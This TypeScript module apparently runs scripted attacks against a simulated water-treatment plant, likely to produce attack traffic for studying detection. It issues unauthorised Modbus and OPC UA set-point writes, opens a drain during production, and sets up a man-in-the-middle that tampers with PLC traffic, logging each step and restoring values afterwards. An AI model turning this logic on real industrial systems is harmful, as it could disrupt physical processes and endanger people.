import type { Source } from "../access-switch/dial-from.ts";
import type { AddressPlan, PortRange } from "../address-plan.ts";
import type { AttackLog } from "./attack-log.ts";
import { findAttack } from "./catalogue.ts";
import { type Draw, draw } from "./draw.ts";
import { patchLink, runManInTheMiddle } from "./man-in-the-middle.ts";
import { presentValues, putBack, readDiscreteInput, writeRound } from "./modbus-attack.ts";
import { ModbusMaster } from "./modbus-master.ts";
import { type Watch, watchClock } from "./watch.ts";

export interface AttackOptions {
  /** Id of the catalogue, or row of the attack library. */
  readonly id: string;
  readonly seed: number;
  readonly plan: AddressPlan;
  /** `system`, or `tcp:HOST:PORT` of the simulated plant's clock. */
  readonly clock: string;
  /** Plant ms for which it goes on, from its first round. */
  readonly durationMs: number;
  readonly log: AttackLog;
  /** Ends it early. */
  readonly signal?: AbortSignal;
}

/** What an attack has at hand. Nothing here reaches the defence. */
interface Scene {
  readonly plan: AddressPlan;
  readonly draw: Draw;
  readonly watch: Watch;
  readonly untilMs: number;
  readonly log: AttackLog;
}

/** Status of a backwash, which the operator station may read; PLC 2, discrete input 1. */
const BACKWASH_ACTIVE = { unit: 2, address: 1 } as const;
const MITM_LINK = "plc-1-modbus";
const DISTRIBUTION_NODE = "ns=1;s=FIC401.SP";

/** Runs one attack to its end: real traffic, from this process and its own address. @throws Error for an unknown attack or clock */
export async function runAttack(options: AttackOptions): Promise<void> {
  const attack = findAttack(options.id);
  if (attack === undefined) throw new Error(`attack \`${options.id}\` is not in the catalogue; name one by id or row`);
  const drawn = draw(attack.id, options.seed);
  const watch = await watchClock(options.clock, `attack-${attack.id}`);
  const end = (): void => watch.close();
  options.signal?.addEventListener("abort", end);
  if (options.signal?.aborted === true) end();
  try {
    const startMs = watch.now() + drawn.startAfterMs;
    if (!(await watch.reached(startMs))) return;
    const { plan, log } = options;
    await start(attack.id, { plan, draw: drawn, watch, untilMs: startMs + options.durationMs, log });
  } finally {
    options.signal?.removeEventListener("abort", end);
    watch.close();
  }
}

function start(id: NonNullable<ReturnType<typeof findAttack>>["id"], scene: Scene): Promise<void> {
  const { plan } = scene;
  switch (id) {
    case "hmi-wrong-order":
      return openDrainWhileProducing(scene);
    case "hmi-overdose":
      return writeOverAndOver(scene, new ModbusMaster(plan.access.plc1, from(plan.hmi, plan.sourcePorts?.hmi)));
    case "rogue-master":
      return writeOverAndOver(scene, new ModbusMaster(plan.filter.plc1, from(plan.rogue, plan.sourcePorts?.rogue)));
    case "mitm-setpoint":
      return standInTheMiddle(scene);
    case "rogue-opcua-write":
      return stopDistribution(scene);
    default: {
      const never: never = id;
      throw new Error(`unreachable: ${String(never)}`);
    }
  }
}

/** Rounds at the drawn period until the attack's time is up or the clock has gone. */
async function rounds({ draw: { periodMs }, watch, untilMs }: Scene, round: () => Promise<void>): Promise<void> {
  for (let dueMs = watch.now(); dueMs < untilMs; dueMs = Math.max(dueMs + periodMs, watch.now())) {
    if (!(await watch.reached(dueMs))) return;
    await round();
  }
}

/** Like many intruders, these look first what is there, and put it back when they leave, if they got anything through. */
async function writeOverAndOver(
  scene: Scene,
  master: ModbusMaster,
  mayWrite: () => Promise<boolean> = always,
): Promise<void> {
  const { draw: drawn, watch, log } = scene;
  let taken = false;
  try {
    const found = await presentValues(master, drawn.writes);
    await rounds(scene, async () => {
      if (await mayWrite()) taken = (await writeRound(master, drawn.writes, watch, log)) || taken;
    });
    if (taken) await putBack(master, found, watch, log);
  } finally {
    master.close();
  }
}

const always = (): Promise<boolean> => Promise.resolve(true);

/** The step is told by the backwash's own status. In a backwash the drain may be opened, so it waits. */
async function openDrainWhileProducing(scene: Scene): Promise<void> {
  const { plan, watch, log } = scene;
  const master = new ModbusMaster(plan.access.plc2, from(plan.hmi, plan.sourcePorts?.hmi));
  await writeOverAndOver(scene, master, async () => {
    if ((await readDiscreteInput(master, BACKWASH_ACTIVE.unit, BACKWASH_ACTIVE.address)) !== true) return true;
    log({ atMs: watch.now(), action: "wait", tag: null, value: null, answer: "a backwash is in progress" });
    return false;
  });
}

async function standInTheMiddle(scene: Scene): Promise<void> {
  const { plan, draw: drawn, watch, log, untilMs } = scene;
  if (drawn.tamper === undefined) throw new Error("unreachable: a man in the middle without a set-point to change");
  const { sourcePorts } = plan;
  const box = await runManInTheMiddle({
    host: plan.rogue,
    target: plan.filter.plc1,
    tampering: drawn.tamper,
    ...(sourcePorts === undefined ? {} : { sourcePorts: sourcePorts.hmi }),
    now: () => watch.now(),
    log,
  });
  const note = (action: string, answer: string): void =>
    log({ atMs: watch.now(), action, tag: null, value: null, answer });
  try {
    note("patch", await patchLink(plan.patch, MITM_LINK, box.at));
    await watch.reached(untilMs);
    await box.putBack();
  } finally {
    note("unpatch", await patchLink(plan.patch, MITM_LINK, undefined));
    await box.close();
  }
}

async function stopDistribution(scene: Scene): Promise<void> {
  const { plan, draw: drawn, watch, log } = scene;
  // Only this attack needs the library, which takes seconds to load.
  const { OpcUaIntruder } = await import("./opcua-intruder.ts");
  const intruder = await OpcUaIntruder.create(plan.filter.plc2Ua, from(plan.rogue, plan.sourcePorts?.rogue));
  let taken = false;
  try {
    const found = await intruder.read(DISTRIBUTION_NODE);
    await rounds(scene, async () => {
      for (const { tag, value } of drawn.writes.flatMap((write) => write.items)) {
        const atMs = watch.now();
        const answer = await intruder.write(DISTRIBUTION_NODE, value);
        taken ||= answer === "ok";
        log({ atMs, action: "Write", tag, value, answer });
      }
    });
    if (taken && found !== undefined) {
      const atMs = watch.now();
      log({
        atMs,
        action: "put back by Write",
        tag: "FIC401.SP",
        value: null,
        answer: await intruder.write(DISTRIBUTION_NODE, found),
      });
    }
  } finally {
    await intruder.close();
  }
}

function from(address: string, ports: PortRange | undefined): Source {
  return { address, ...(ports === undefined ? {} : { ports }) };
}
